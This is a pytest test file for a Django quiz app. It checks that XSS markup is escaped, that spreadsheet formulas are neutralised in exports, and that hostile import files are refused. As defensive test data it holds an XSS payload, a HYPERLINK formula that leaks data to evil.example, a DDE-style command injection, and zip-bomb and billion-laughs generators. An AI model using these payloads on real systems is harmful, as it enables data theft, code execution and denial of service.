"""Hostile content. Text from questions, options, explanations, sources, learners' and
teachers' names, class names and quiz titles that carries HTML or script is shown escaped on
every page, fragment and admin screen that shows it; in exports it is data, never a formula.
Hostile import files (formula cells, files too large or too long, the wrong encoding, JSON
nested ten thousand deep, garbage calling itself XLSX, workbooks that unpack to gigabytes or
claim a million rows) are refused with a clear message, and nothing is written."""

import csv
import io
import json
import os
import re
import tempfile
import time
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.utils.html import escape

from questions.formats import rules
from questions.formats.service import export_questions
from questions.models import Question, Topic
from tests.factories import PassageFactory, QuestionFactory, QuizFactory, SourceFactory, TopicFactory, UserFactory
from tests.helpers import make_teacher
from tests.test_access_matrix import every_row
from tests.test_teaching_support import make_class, take

pytestmark = pytest.mark.django_db

HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
ESCAPED = escape(HOSTILE)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your score")'


def assert_escaped(response, *, whole=True):
    """No hostile tag reaches the page as markup. `whole`: the full text is shown (escaped);
    otherwise the page shows it cut short (admin's list columns)."""
    body = response.content.decode()
    assert response.status_code == 200, response.status_code
    assert "<script>alert" not in body and "<img src=x" not in body
    assert (ESCAPED if whole else "&lt;script&gt;alert(") in body


# --- hostile text in pages, fragments and admin --------------------------------------------------


@pytest.fixture
def hostile(db):
    """Every field a user or an editor can fill, filled with markup."""
    teacher = make_teacher("meena")
    teacher.first_name, teacher.last_name = "Meena", HOSTILE
    teacher.save()
    learner = UserFactory(username="asha", first_name="Asha", last_name=HOSTILE)
    formula_learner = UserFactory(username="+cmd", first_name=FORMULA)
    topic = TopicFactory(slug="hostile-topic", name=f"Topic {HOSTILE}")
    source = SourceFactory(slug="hostile-source", title=f"Source {HOSTILE}", publisher=HOSTILE)
    passage = PassageFactory(source=source, position=1, heading=f"Heading {HOSTILE}", text=f"Passage {HOSTILE}")
    questions = [
        QuestionFactory(
            source=source,
            passage=passage,
            topic=topic,
            stem=f"Stem {HOSTILE}",
            explanation=f"Because {HOSTILE}",
            choices=[(f"Right {HOSTILE}", True), ("=1+1", False), ("+2", False), ("@SUM(A1)", False)],
        ),
        QuestionFactory(source=source, passage=passage, topic=topic, stem=FORMULA, explanation="Plain."),
    ]
    quiz = QuizFactory(slug="hostile", title=f"Quiz {HOSTILE}", description=HOSTILE, with_questions=questions)
    classroom, _ = make_class(teacher, quiz, [learner, formula_learner], name=f"Batch {HOSTILE}", code="HSTL34")
    attempt = take(learner, quiz, ["A", "B"])
    take(formula_learner, quiz, ["B", "A"])
    admin = UserFactory(username="root", is_staff=True, is_superuser=True)
    return {
        "teacher": teacher, "learner": learner, "admin": admin, "quiz": quiz, "classroom": classroom,
        "attempt": attempt, "questions": questions, "source": source, "topic": topic,
    }  # fmt: skip


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_teachers_pages_show_hostile_names_titles_and_questions_escaped(hostile):
    teacher = logged_in(hostile["teacher"])
    classroom, quiz, attempt = hostile["classroom"], hostile["quiz"], hostile["attempt"]
    base = f"/teach/classes/{classroom.pk}/quizzes/{quiz.slug}/"
    for url in ["/teach/", f"/teach/classes/{classroom.pk}/", base, base + "items/", base + "matrix/", base + f"attempts/{attempt.pk}/"]:
        assert_escaped(teacher.get(url))
    review = teacher.get(base + f"attempts/{attempt.pk}/").content.decode()
    assert f"Right {ESCAPED}" in review and f"Because {ESCAPED}" in review and f"Stem {ESCAPED}" in review


def test_messages_that_quote_a_name_or_title_show_it_escaped(hostile):
    teacher = logged_in(hostile["teacher"])
    classroom = hostile["classroom"]
    other = QuizFactory(slug="second", title=f"Second {HOSTILE}", with_questions=1)
    after_assign = teacher.post(f"/teach/classes/{classroom.pk}/assign/", {"quiz": other.pk}, follow=True)
    assert_escaped(after_assign)
    assert f"Second {ESCAPED} is assigned to Batch {ESCAPED}." in after_assign.content.decode()
    learner = hostile["learner"]
    after_remove = teacher.post(f"/teach/classes/{classroom.pk}/learners/{learner.pk}/remove/", follow=True)
    assert f"Asha {ESCAPED} is no longer in Batch {ESCAPED}." in after_remove.content.decode()
    # Back in by the join link: the class and its teacher's name, then the welcome message.
    learner_client = logged_in(learner)
    assert_escaped(learner_client.get(f"/classes/join/{classroom.join_code}/"))
    joined = learner_client.post("/classes/join/", {"code": classroom.join_code}, follow=True)
    assert f"You joined Batch {ESCAPED}." in joined.content.decode()
    assert_escaped(joined)  # the quiz list, with the class in its assigned section


def test_learner_pages_and_fragments_show_sources_and_feedback_escaped(hostile):
    learner = logged_in(hostile["learner"])
    attempt = hostile["attempt"]
    assert_escaped(learner.get(f"/sources/{hostile['source'].slug}/"))
    for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
        page = learner.get(f"/attempts/{attempt.pk}/questions/1/", **headers)
        assert_escaped(page)
        assert f"Because {ESCAPED}" in page.content.decode()
    assert_escaped(learner.get(f"/attempts/{attempt.pk}/result/"))


def test_admin_lists_and_change_pages_show_hostile_text_escaped(hostile):
    admin = logged_in(hostile["admin"])
    question = hostile["questions"][0]
    pages = {
        "/admin/questions/question/": False,  # the stem column is cut at 90 characters
        f"/admin/questions/question/?q={HOSTILE[:10]}": False,
        f"/admin/questions/question/{question.pk}/change/": True,
        "/admin/questions/source/": True,
        f"/admin/questions/source/{hostile['source'].pk}/change/": True,
        "/admin/questions/topic/": True,
        "/admin/quiz/quiz/": True,
        f"/admin/quiz/quiz/{hostile['quiz'].pk}/change/": True,
        "/admin/teaching/classroom/": True,
        f"/admin/teaching/classroom/{hostile['classroom'].pk}/change/": True,
        "/admin/auth/user/": True,
        f"/admin/auth/user/{hostile['learner'].pk}/change/": True,
        f"/admin/questions/question/{question.pk}/history/": False,
    }
    for url, whole in pages.items():
        assert_escaped(admin.get(url), whole=whole)
    # An action's own page lists the chosen questions by their stems.
    moving = admin.post("/admin/questions/question/", {"action": "move_to_topic", "_selected_action": [question.pk]})
    assert_escaped(moving)


def test_admin_import_preview_shows_hostile_text_escaped(editor_client, hostile):
    gift_text = f"Signed {HOSTILE}? {{=Right {HOSTILE} ~Wrong ####Because {HOSTILE}}}\n"
    preview = editor_client.post(
        "/admin/questions/question/import-text/",
        {"format": "gift", "import_file": upload(gift_text.encode()), "source": hostile["source"].pk, "topic": hostile["topic"].pk},
    )
    assert_escaped(preview)
    rows = [["stem", "option_a", "option_b", "correct"], [f"Sheet {HOSTILE}", f"A {HOSTILE}", "B", "A"]]
    preview = editor_client.post(
        "/admin/questions/question/import/",
        {"format": "0", "import_file": upload(csv_bytes(rows)), "source": hostile["source"].pk, "topic": hostile["topic"].pk},
    )
    assert_escaped(preview, whole=False)  # import-export's preview escapes < and > but not quotes


# --- exports: text is data, never a formula ------------------------------------------------------


def export_text(client, classroom, quiz, kind) -> str:
    response = client.get(f"/teach/classes/{classroom.pk}/quizzes/{quiz.slug}/export/{kind}.csv")
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_csv_exports_neutralise_every_cell_a_spreadsheet_would_run(hostile):
    teacher = logged_in(hostile["teacher"])
    classroom, quiz = hostile["classroom"], hostile["quiz"]
    scores = list(csv.reader(io.StringIO(export_text(teacher, classroom, quiz, "scores"))))
    by_username = {row[1]: row for row in scores[1:]}
    # Names and usernames that start with = + - @ get a quote: the spreadsheet shows the text.
    assert by_username["'+cmd"][0] == "'" + FORMULA
    assert by_username["asha"][0] == f"Asha {HOSTILE}"  # markup in a CSV is only text
    items = list(csv.reader(io.StringIO(export_text(teacher, classroom, quiz, "items"))))
    assert [row[1] for row in items[1:]] == [f"Stem {HOSTILE}", "'" + FORMULA]
    matrix = list(csv.reader(io.StringIO(export_text(teacher, classroom, quiz, "matrix"))))
    assert {row[0] for row in matrix[1:]} == {"'" + FORMULA, f"Asha {HOSTILE}"}
    for table in (scores, items, matrix):
        for row in table:
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
                # A minus starts only numbers, which stay numbers (a mark of -0.66).
                assert not value.startswith("-") or re.fullmatch(r"-[0-9.]+", value), value


def test_xlsx_exports_store_every_text_as_a_string_never_a_formula(hostile):
    teacher = logged_in(hostile["teacher"])
    classroom, quiz = hostile["classroom"], hostile["quiz"]
    for kind in ("scores", "items", "matrix"):
        response = teacher.get(f"/teach/classes/{classroom.pk}/quizzes/{quiz.slug}/export/{kind}.xlsx")
        data = b"".join(response.streaming_content)
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet, kind  # not one formula in the workbook
        values = [v for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True) for v in row]
        assert FORMULA in values, kind  # the text itself, readable, typed as a string
        assert "+cmd" in values or kind == "items"


def test_question_exports_quote_formula_cells_in_csv_and_xlsx(hostile):
    questions = Question.objects.filter(source=hostile["source"]).order_by("pk")
    text = export_questions(questions, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1:5] == [f"Right {HOSTILE}", "'=1+1", "'+2", "'@SUM(A1)"]
    assert rows[2][0] == "'" + FORMULA
    book = openpyxl.load_workbook(io.BytesIO(export_questions(questions, "xlsx")))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + FORMULA in [c.value for c in cells]


def test_teaching_export_file_names_carry_only_safe_characters(client, teacher, learner):
    """A join code set in admin may hold anything; the download's name holds none of it that a
    header cannot carry."""
    from tests.test_teaching_support import make_quiz

    quiz = make_quiz(1)
    classroom, _ = make_class(teacher, quiz, [learner], code='AB"C\nD;')
    client.force_login(teacher)
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/teach/classes/{classroom.pk}/quizzes/{quiz.slug}/export/scores.{fmt}")
        assert response.status_code == 200
        assert response["Content-Disposition"] == f'attachment; filename="ABCD-polity-weekly-scores.{fmt}"'


# --- hostile import files -------------------------------------------------------------------------


def upload(data: bytes, name="bank.txt") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, "application/octet-stream")


def csv_bytes(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def xlsx_parts(sheet_xml: str, *, dimension="A1:D2", extra: dict | None = None, doctype: str = "") -> bytes:
    """A minimal workbook written by hand, so it can say what openpyxl would never write."""
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="{dimension}"/><sheetData>{sheet_xml}</sheetData></worksheet>',
        **(extra or {}),
    }  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def sheet_row(number: int, values: list[str]) -> str:
    cells = "".join(f'<c r="{"ABCD"[i]}{number}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values))
    return f'<row r="{number}">{cells}</row>'


GOOD_SHEET = sheet_row(1, ["stem", "option_a", "option_b", "correct"]) + sheet_row(2, ["Which came first?", "GSOMIA", "LEMOA", "A"])


def deep_json(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


def formula_workbook() -> bytes:
    """A stem that is a live formula: openpyxl writes it with no cached value, as a file made
    by a script (not Excel) would arrive."""
    book = openpyxl.Workbook()
    book.active.append(["stem", "option_a", "option_b", "correct"])
    book.active.append([FORMULA, "a", "b", "A"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def many_questions_csv(count: int) -> bytes:
    rows = [["stem", "option_a", "option_b", "correct", "topic"]]
    rows += [[f"Question {i}?", "a", "b", "A", "agreements"] for i in range(count)]
    return csv_bytes(rows)


def unpacks_to(megabytes: int) -> bytes:
    """Highly compressible: a few kilobytes on the wire, `megabytes` once unpacked."""
    padding = {"xl/media/padding.bin": b"\0" * (megabytes * 1024 * 1024)}
    return xlsx_parts(GOOD_SHEET, extra=padding)


# Entities that expand to 3 GB of "lol": expat refuses to expand that far.
LAUGHS = "<!DOCTYPE worksheet [<!ENTITY lol0 \"lol\">" + "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
) + "]>"
BILLION_LAUGHS = xlsx_parts(sheet_row(1, ["stem", "option_a", "option_b", "correct"]) + sheet_row(2, ["&lol9;", "a", "b", "A"]), doctype=LAUGHS)


# (file, format, the message a person reads): every one refused whole, nothing written. Some of
# the rules' messages are lazy (read in the reader's language): str() them where matched.
HOSTILE_FILES = {
    "over 5 MB": (lambda: b"stem,option_a,option_b,correct\n" + b"x" * (5 * 1024 * 1024), "csv", "at most 5 MB can be imported at once"),
    "over 5000 questions": (lambda: many_questions_csv(5001), "csv", rules.TOO_MANY_QUESTIONS),
    "over 5000 GIFT questions": (lambda: "\n\n".join(f"Q{i}? {{=a ~b}}" for i in range(5001)).encode(), "gift", rules.TOO_MANY_QUESTIONS),
    "UTF-16 with a byte order mark": (lambda: "stem,option_a,option_b,correct\nक?,a,b,A\n".encode("utf-16"), "csv", rules.UTF16),
    "UTF-16 without one": (lambda: "stem,option_a,option_b,correct\n".encode("utf-16-le"), "csv", "contains NUL bytes"),
    "Latin-1": (lambda: "stem,option_a,option_b,correct\nCafé?,a,b,A\n".encode("latin-1"), "csv", "Not UTF-8 text (byte 0xE9 cannot be read)"),
    "JSON 10,000 levels deep": (lambda: deep_json(10_000), "json", rules.JSON_TOO_DEEP),
    "JSON with a 5000-digit number": (lambda: b'[{"stem": ' + b"9" * 5000 + b"}]", "json", rules.JSON_NUMBER_TOO_LONG),
    "JSON with a NUL in a stem": (lambda: b'[{"stem": "a\\u0000b", "option_a": "x", "option_b": "y", "correct": "A", "topic": "agreements"}]', "json", rules.NUL_IN_TEXT),
    "random bytes as XLSX": (lambda: bytes(range(256)) * 40, "xlsx", "Not an XLSX workbook"),
    "a zip that is no workbook": (lambda: xlsx_parts("")[:200], "xlsx", "Not an XLSX workbook"),
    "XLSX unpacking to 60 MB": (lambda: unpacks_to(60), "xlsx", rules.XLSX_UNPACKS_TOO_LARGE),
    "XLSX claiming a million rows": (lambda: xlsx_parts(GOOD_SHEET + '<row r="1048576"/>', dimension="A1:XFD1048576"), "xlsx", rules.SHEET_TOO_LONG),
    "XLSX with entity expansion": (lambda: BILLION_LAUGHS, "xlsx", "Not an XLSX workbook"),
    "XLSX whose stem is a formula": (lambda: formula_workbook(), "xlsx", rules.EMPTY_STEM),
    "GIFT with a superscript passage": (lambda: "// pariksha: passage=²\n::t:: Q? {=a ~b}\n".encode(), "gift", rules.MISSING_TOPIC),
    "CSV with a superscript passage": (lambda: csv_bytes([["stem", "option_a", "option_b", "correct", "passage"], ["Q?", "a", "b", "A", "²"]]), "csv", "Passage must be a paragraph number of the source, not “²”."),
}  # fmt: skip


@pytest.fixture
def bank():
    source = SourceFactory(slug="article")
    TopicFactory(slug="agreements", name="Agreements")
    return source


@pytest.mark.parametrize("case", list(HOSTILE_FILES))
def test_the_import_command_refuses_a_hostile_file_with_a_clear_message(tmp_path, bank, case):
    make, fmt, message = HOSTILE_FILES[case]
    message = str(message)
    path = tmp_path / f"hostile.{fmt}"
    path.write_bytes(make())
    before = every_row()
    started = time.monotonic()
    with pytest.raises(CommandError) as refused:
        call_command("import_questions", str(path), format=fmt, source=bank.slug, stdout=io.StringIO())
    assert time.monotonic() - started < 10  # refused, not chewed on for minutes
    assert str(refused.value).startswith("Nothing was imported.")
    assert message in str(refused.value)
    assert every_row() == before


ADMIN_FORMAT = {"csv": "0", "xlsx": "1", "json": "2"}


@pytest.mark.parametrize("case", list(HOSTILE_FILES))
def test_admin_import_refuses_a_hostile_file_with_a_clear_message(editor_client, bank, case):
    make, fmt, message = HOSTILE_FILES[case]
    message = str(message)
    before = every_row()
    if fmt in ADMIN_FORMAT:
        url, data = "/admin/questions/question/import/", {"format": ADMIN_FORMAT[fmt]}
    else:
        url, data = "/admin/questions/question/import-text/", {"format": fmt}
    response = editor_client.post(url, {**data, "import_file": upload(make(), f"hostile.{fmt}"), "source": bank.pk})
    page = response.content.decode()
    assert response.status_code == 200
    assert escape(message) in page
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    assert "encountered while trying to read file" not in page  # import-export's words for a crash
    assert every_row() == before


def test_admin_import_refuses_an_oversized_upload_before_reading_it(editor_client, bank):
    """The upload form itself refuses it, from the size the upload declares: the file is
    never read into memory."""
    big = upload(b"x" * (5 * 1024 * 1024 + 1), "big.csv")
    for url, fmt in [("/admin/questions/question/import/", "0"), ("/admin/questions/question/import-text/", "gift")]:
        big.seek(0)
        response = editor_client.post(url, {"format": fmt, "import_file": big, "source": bank.pk})
        message = "The file is 5.1 MB; at most 5 MB can be imported at once: split it and import the parts one after another."
        assert response.context["form"].errors["import_file"] == [message]
        assert message in response.content.decode()


@pytest.mark.parametrize("fmt", ["csv", "json", "gift"])
def test_a_file_of_exactly_the_most_questions_allowed_is_read(bank, fmt):
    from questions.formats.service import check_rows, read_rows

    count = rules.MAX_IMPORT_QUESTIONS
    data = {
        "csv": lambda: many_questions_csv(count),
        "json": lambda: json.dumps([{"stem": f"Q{i}?", "option_a": "a", "option_b": "b", "correct": "A"} for i in range(count)]).encode(),
        "gift": lambda: "\n\n".join(f"Q{i}? {{=a ~b}}" for i in range(count)).encode(),
    }[fmt]()
    rows = read_rows(data, fmt)
    assert len(rows) == count
    agreements = Topic.objects.get(slug="agreements")
    assert check_rows(rows, bank, default_topic=agreements)[1] == []


def test_formula_cells_in_a_csv_import_are_kept_as_text_and_quoted_again_on_export(tmp_path, bank):
    rows = [
        ["stem", "option_a", "option_b", "option_c", "correct", "topic"],
        [FORMULA, "=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "A", "agreements"],
        ["'=already quoted?", "-2", "b", "c", "A", "agreements"],
    ]
    path = tmp_path / "formulas.csv"
    path.write_bytes(csv_bytes(rows))
    call_command("import_questions", str(path), format="csv", source=bank.slug, stdout=io.StringIO())
    first, second = Question.objects.order_by("pk")
    assert first.stem == FORMULA
    assert [c.text for c in first.choices.order_by("position")] == ["=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)"]
    # A quote before = is how our export protects a cell; the import takes exactly one off.
    assert second.stem == "=already quoted?"
    exported = list(csv.reader(io.StringIO(export_questions(Question.objects.order_by("pk"), "csv").decode("utf-8-sig"))))
    assert exported[1][:4] == ["'" + FORMULA, "'=1+1", "'+cmd|' /C calc'!A0", "'@SUM(A1)"]
    assert exported[2][:2] == ["'=already quoted?", "'-2"]


def devanagari_gift(count: int) -> bytes:
    return "\n\n".join(f"प्रश्न {i}: " + "क" * 300 + "? {=हाँ ~नहीं}" for i in range(count)).encode()


def test_a_gift_file_too_large_to_confirm_from_a_browser_is_refused_at_upload(editor_client, bank):
    """Under 1 MB, but its Devanagari text, percent-encoded as a browser sends the confirm
    form, would be 2.8 MB: more than Django accepts (2.5 MB), which would be a bare 400 at the
    last step. It is refused at upload, saying what to do."""
    before = every_row()
    data = devanagari_gift(1000)
    assert len(data) < 1024 * 1024
    response = editor_client.post(
        "/admin/questions/question/import-text/",
        {"format": "gift", "import_file": upload(data), "source": bank.pk},
    )
    assert "This file is too large to confirm from the browser" in response.content.decode()
    assert "import it with the import_questions command" in response.content.decode()
    assert every_row() == before


def test_a_gift_file_that_fits_is_previewed_and_confirmed_as_a_browser_sends_it(editor_client, bank):
    from urllib.parse import urlencode

    topic = TopicFactory(slug="samvidhan")
    preview = editor_client.post(
        "/admin/questions/question/import-text/",
        {"format": "gift", "import_file": upload(devanagari_gift(400)), "source": bank.pk, "topic": topic.pk},
    )
    confirm = preview.context["confirm_form"]
    body = urlencode({**{k: v for k, v in confirm.initial.items() if v is not None}, "confirm": "1"})
    done = editor_client.post("/admin/questions/question/import-text/", body, content_type="application/x-www-form-urlencoded")
    assert done.status_code == 302
    assert Question.objects.filter(source=bank).count() == 400


def test_gift_text_sent_back_at_confirmation_is_checked_again(editor_client, bank):
    """The confirm step carries the file's text in the form: a forged text is held to the same
    limits as an upload."""
    before = every_row()
    too_many = "\n\n".join(f"Q{i}? {{=a ~b}}" for i in range(rules.MAX_IMPORT_QUESTIONS + 1))
    pages = []
    for text in (too_many, "Q\x00? {=a ~b}"):
        response = editor_client.post(
            "/admin/questions/question/import-text/",
            {"confirm": "1", "format": "gift", "source": bank.pk, "topic": "", "text": text},
        )
        assert response.status_code == 200
        assert every_row() == before
        pages.append(response.content.decode())
    assert escape(str(rules.TOO_MANY_QUESTIONS)) in pages[0]
    # A NUL fails the confirm form's own check (Django refuses NUL in any text field): the
    # upload form is shown again.
    assert "Preview" in pages[1]


def test_a_forged_confirmation_of_a_spreadsheet_import_names_no_other_file(editor_client, bank, tmp_path):
    """The confirm step names the upload's temporary copy, which import-export reads and then
    deletes: a name we did not sign is refused, whatever file it names."""
    victim = tempfile.NamedTemporaryFile(delete=False, suffix=".csv")
    victim.write(csv_bytes([["stem", "option_a", "option_b", "correct", "topic"], ["Leaked?", "a", "b", "A", "agreements"]]))
    victim.close()
    before = every_row()
    data = {"import_file_name": victim.name, "original_file_name": "x.csv", "format": "0", "source": bank.pk, "resource": "0"}
    response = editor_client.post("/admin/questions/question/process_import/", data)
    assert response.status_code == 200
    assert "This preview has expired or its file is gone: upload the file again." in response.content.decode()
    assert every_row() == before
    assert os.path.exists(victim.name)
    os.remove(victim.name)

